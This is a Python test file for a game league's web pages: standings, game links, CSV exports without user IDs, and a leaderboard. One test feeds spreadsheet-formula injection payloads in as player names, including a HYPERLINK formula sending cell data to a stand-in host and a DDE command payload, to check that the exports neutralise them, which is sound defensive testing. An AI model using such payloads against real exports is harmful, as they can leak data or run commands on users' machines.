"""A league's page (seasons, standings, rounds with their games' links, the CSV) and a server's leaderboard page."""

from __future__ import annotations

import csv
import io
import re

from aiohttp.test_utils import TestClient
from markupsafe import escape

from engine.platform.records import LinkKind
from engine.services import Services
from tests.web.conftest import GUILD, MANAGER
from tests.web.playing import ANN, BOB, CY, NAMES, play_out, started

DEE = 412345678901234504
PEOPLE = {**NAMES, DEE: "Dee Person"}
CUP = "Spring Cup"


async def league_with_a_round(service: Services, *, link_games: bool = True, people: dict[int, str] = PEOPLE,
                              name: str = CUP) -> tuple[int, list[int]]:
    """A league of four at tables of two, its round 1 open and started, the first game played out."""
    league = await service.leagues.create_league(GUILD, 10, MANAGER, [], can_manage=True, name=name, slug="airships",
                                                 table_size=2, turn_seconds=None, round_seconds=7 * 86400, rounds=2)
    for user, person in people.items():
        await service.leagues.join_league(GUILD, league.name, user, person)
    if not link_games:  # the server's pages are off while the round opens: its games get no link
        await service.store.web.set_site(GUILD, False, MANAGER)
    news = await service.leagues.start_league(GUILD, league.name, [], can_manage=True)
    await service.store.web.set_site(GUILD, True, MANAGER)
    game_ids = list(news.game_ids)  # type: ignore[union-attr]
    for game_id in game_ids:
        await service.lobby.start(game_id, (await service.reading.table(game_id)).creator_id)
    await play_out(service, game_ids[0])
    return league.id, game_ids


async def page_path(service: Services, kind: LinkKind, target: str | int) -> str:
    url = await service.sharing.url(GUILD, kind, target)
    assert url is not None
    return url.removeprefix("http://pages.test")


async def test_a_league_page_shows_the_standings_of_league_standings_and_its_rounds_games(
        service: Services, client: TestClient) -> None:
    league_id, game_ids = await league_with_a_round(service)
    html = await (await client.get(await page_path(service, LinkKind.LEAGUE, league_id))).text()
    standing = await service.leagues.league_standings(GUILD, CUP)
    assert not any(str(user) in html for user in PEOPLE)
    assert f"<h1>{CUP}: season 1</h1>" in html and "Airships · round 1 of 2 · 1 of 2 games finished" in html
    shown = re.findall(r"<tr><td>(\d+)</td><td>([^<]+)</td><td>([\d.,]+)</td>", html)
    assert shown == [(str(s.rank), str(escape(s.name)), f"{s.points:g}") for s in standing.lines]
    assert "Ties break by opponents' points (everyone they sat with), then rating." in html
    for game_id in game_ids:
        assert f'<a href="{await page_path(service, LinkKind.GAME, game_id)}">Game #{game_id}</a>' in html
    assert "(finished)" in html and "(being played)" in html and "<h2>Round 1</h2>" in html


async def test_a_game_without_a_link_is_listed_without_one(service: Services, client: TestClient) -> None:
    league_id, game_ids = await league_with_a_round(service, link_games=False)
    assert await service.sharing.tokens(GUILD, LinkKind.GAME, [str(g) for g in game_ids]) == {}
    html = await (await client.get(await page_path(service, LinkKind.LEAGUE, league_id))).text()
    for game_id in game_ids:
        assert f"<li>Game #{game_id} (" in html
    assert "/game/" not in html


async def test_the_league_csv_is_the_seasons_results_without_discord_ids(service: Services, client: TestClient) -> None:
    league_id, game_ids = await league_with_a_round(service)
    response = await client.get(f"{await page_path(service, LinkKind.LEAGUE, league_id)}/standings.csv")
    text = await response.text()
    assert response.status == 200 and response.content_type == "text/csv" and response.charset == "utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="spring-cup-season-1.csv"'
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["league", "season", "round", "game", "seat", "player", "place", "score", "points"]
    _, full = await service.leagues.league_csv(GUILD, CUP)  # what /league export gives the organiser
    expected = [row[:6] + row[7:] for row in csv.reader(io.StringIO(full))][1:]
    assert rows[1:] == expected and len(rows) == 3 and {r[3] for r in rows[1:]} == {str(game_ids[0])}
    assert not any(str(user) in text for user in PEOPLE)


async def test_a_name_that_a_spreadsheet_would_run_as_a_formula_is_text_in_both_csvs(
        service: Services, client: TestClient) -> None:
    hostile = ['=HYPERLINK("https://evil.test/?"&A2,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    people = dict(zip(PEOPLE, hostile, strict=True))
    league_id, _ = await league_with_a_round(service, people=people, name="=Cup")
    public = await (await client.get(f"{await page_path(service, LinkKind.LEAGUE, league_id)}/standings.csv")).text()
    _, full = await service.leagues.league_csv(GUILD, "=Cup")  # what /league export gives the organiser
    for text in (public, full):
        rows = list(csv.reader(io.StringIO(text)))[1:]
        assert rows and all(row[0] == "'=Cup" for row in rows)
        assert {row[5] for row in rows} <= {"'" + name for name in hostile}
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
        assert all(cell == "'-2+3" or cell.lstrip("-").replace(".", "").isdigit() for cell in cells
                   if cell.startswith("-"))


async def test_a_league_page_steps_to_an_earlier_season_and_refuses_one_it_never_had(
        service: Services, client: TestClient) -> None:
    league_id, _ = await league_with_a_round(service)
    path = await page_path(service, LinkKind.LEAGUE, league_id)
    assert (await client.get(f"{path}?season=1")).status == 200
    assert (await client.get(f"{path}?season=2")).status == 404
    assert (await client.get(f"{path}?season=abc")).status == 400
    assert (await client.get(f"{path}/standings.csv?season=7")).status == 404


async def test_the_leaderboard_page_shows_the_same_rows_as_leaderboard_and_no_ids(
        service: Services, client: TestClient) -> None:
    path = await page_path(service, LinkKind.LEADERBOARD, "airships")
    empty = await (await client.get(path)).text()
    assert "No rated games of Airships on this server yet." in empty
    for seed in (1, 2):
        await play_out(service, await started(service, players=(ANN, BOB, CY)), seed)
    board = await service.ratings.leaderboard(GUILD, "airships")
    html = await (await client.get(path)).text()
    shown = re.findall(r"<tr><td>(\d+)</td><td>([^<]+)</td><td>([\d,]+)", html)
    assert shown == [(str(r.rank), str(escape(r.name)), f"{r.rating:,}") for r in board.rows]
    assert "3 members rated." in html and "Provisional: fewer than 5 rated games." in html
    assert not any(str(user) in html for user in (ANN, BOB, CY))
